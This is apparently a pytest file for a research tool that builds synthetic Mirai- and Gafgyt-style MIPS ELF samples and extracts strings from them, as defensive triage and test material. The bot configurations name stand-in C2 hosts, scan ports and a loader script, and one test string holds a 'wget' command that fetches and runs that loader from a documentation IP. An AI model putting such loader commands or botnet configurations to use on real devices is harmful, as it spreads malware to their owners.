"""Tests for the synthetic sample builder and strings triage."""

import random

import pytest

from repro.binary.builder import (
    _MIPS_OPCODES,
    _mips_text,
    build_chaff,
    build_sample,
)
from repro.binary.config import BotConfig, unpack_config
from repro.binary.elf import EM_386, EM_ARM, ElfImage, is_mips32_elf
from repro.binary.strings import (
    contains_any,
    extract_domains,
    extract_ips,
    extract_strings,
    extract_urls,
)


def reference_mips_text(rng, words):
    """Frozen per-word ``.text`` loop the bulk kernel replaced."""
    out = bytearray()
    for _ in range(words):
        word = rng.choice(_MIPS_OPCODES) | rng.randrange(0, 1 << 16)
        out += word.to_bytes(4, "big")
    return bytes(out)


def reference_chaff(rng, kind):
    """Frozen per-byte chaff builder the bulk kernel replaced."""
    if kind == "junk":
        return bytes(rng.randrange(256) for _ in range(rng.randrange(64, 512)))
    if kind == "truncated":
        return b"\x7fELF" + bytes(rng.randrange(256) for _ in range(8))
    machine = EM_ARM if kind == "arm" else EM_386
    image = ElfImage(machine=machine, endianness="little")
    image.add_section(".text", bytes(rng.randrange(256) for _ in range(256)))
    return image.encode()


def twin_rngs(seed, advance):
    """Two generators in the same state, ``advance`` draws past ``seed``."""
    a, b = random.Random(seed), random.Random(seed)
    for rng in (a, b):
        for _ in range(advance):
            rng.random()
    return a, b


def mirai_config():
    return BotConfig(
        family="mirai", c2_host="203.0.113.5", c2_port=23,
        scan_ports=[23, 2323], exploit_ids=[1], loader_name="8UsA.sh",
        downloader="203.0.113.5:80", attacks=["udp"],
    )


def gafgyt_config():
    return BotConfig(
        family="gafgyt", c2_host="cnc.example.com", c2_port=666,
        scan_ports=[23], attacks=["udp", "std"],
    )


class TestBuildSample:
    def test_sample_is_mips32_elf(self):
        sample = build_sample(mirai_config(), random.Random(0))
        assert is_mips32_elf(sample.data)

    def test_config_recoverable(self):
        sample = build_sample(mirai_config(), random.Random(0))
        image = ElfImage.parse(sample.data)
        config = unpack_config(image.section(".config").data)
        assert config == mirai_config()

    def test_mirai_config_obfuscated_on_disk(self):
        sample = build_sample(mirai_config(), random.Random(0))
        # the C2 address must not appear in cleartext anywhere
        assert b"203.0.113.5:23" not in sample.data
        image = ElfImage.parse(sample.data)
        assert image.section(".config").data[0] == 1

    def test_gafgyt_config_clear_on_disk(self):
        sample = build_sample(gafgyt_config(), random.Random(0))
        image = ElfImage.parse(sample.data)
        assert image.section(".config").data[0] == 0
        # text-protocol families leak the C2 in .rodata strings
        assert b"cnc.example.com" in sample.data

    def test_sha256_stable_and_distinct(self):
        a = build_sample(mirai_config(), random.Random(0))
        b = build_sample(mirai_config(), random.Random(0))
        c = build_sample(mirai_config(), random.Random(1))
        assert a.sha256 == b.sha256
        assert a.sha256 != c.sha256

    def test_family_marker_present(self):
        sample = build_sample(mirai_config(), random.Random(0))
        assert contains_any(sample.data, [b"MIRAI"])

    def test_variant_defaults(self):
        sample = build_sample(mirai_config(), random.Random(0))
        assert sample.variant == "mirai.a"
        explicit = build_sample(mirai_config(), random.Random(0), variant="mirai.b")
        assert explicit.variant == "mirai.b"

    def test_unknown_family_rejected(self):
        with pytest.raises(KeyError):
            build_sample(BotConfig(family="nosuch"), random.Random(0))

    def test_len(self):
        sample = build_sample(mirai_config(), random.Random(0))
        assert len(sample) == len(sample.data) > 500


class TestDrawExactKernel:
    """The bulk kernels make the per-word loop's draws, no more, no less."""

    @pytest.mark.parametrize("words", [0, 1, 2, 256, 2047])
    @pytest.mark.parametrize("seed,advance",
                             [(0, 0), (1, 0), (20220322, 0), (7, 1), (7, 625),
                              (99, 3001)])
    def test_mips_text_equals_per_word_loop(self, words, seed, advance):
        kernel_rng, reference_rng = twin_rngs(seed, advance)
        text = _mips_text(kernel_rng, words)
        assert text == reference_mips_text(reference_rng, words)
        assert len(text) == 4 * words
        assert kernel_rng.getstate() == reference_rng.getstate()

    @pytest.mark.parametrize("kind", ["arm", "x86", "junk", "truncated"])
    def test_chaff_equals_per_byte_loop(self, kind):
        for seed in range(40):
            kernel_rng, reference_rng = twin_rngs(seed, seed % 3)
            assert build_chaff(kernel_rng, kind) == \
                reference_chaff(reference_rng, kind)
            assert kernel_rng.getstate() == reference_rng.getstate()


class TestChaff:
    @pytest.mark.parametrize("kind", ["arm", "x86", "junk", "truncated"])
    def test_chaff_is_not_mips32(self, kind):
        assert not is_mips32_elf(build_chaff(random.Random(0), kind))

    @pytest.mark.parametrize("kind", ["mips", "ARM", ""])
    def test_unknown_kind_rejected_before_drawing(self, kind):
        rng = random.Random(1)
        state = rng.getstate()
        with pytest.raises(ValueError, match="chaff kind"):
            build_chaff(rng, kind)
        assert rng.getstate() == state


class TestStrings:
    def test_extracts_min_length(self):
        data = b"\x00abc\x00defgh\x01ij"
        assert extract_strings(data, min_length=4) == ["defgh"]
        assert "abc" in extract_strings(data, min_length=3)

    def test_min_length_validated(self):
        with pytest.raises(ValueError):
            extract_strings(b"x", min_length=0)

    def test_extract_ips(self):
        data = b"connect 203.0.113.5 now, also 999.1.1.1 is invalid"
        assert extract_ips(data) == ["203.0.113.5"]

    def test_extract_domains(self):
        data = b"resolve cnc.botnet.example.com and junk.nonexistenttld"
        assert "cnc.botnet.example.com" in extract_domains(data)
        assert all(not d.endswith("nonexistenttld") for d in extract_domains(data))

    def test_extract_urls(self):
        data = b"fetch wget http://203.0.113.5/8UsA.sh; run"
        urls = extract_urls(data)
        assert any("8UsA.sh" in u for u in urls)

    def test_loader_name_visible_in_sample(self):
        sample = build_sample(mirai_config(), random.Random(0))
        assert any("8UsA.sh" in s for s in extract_strings(sample.data))
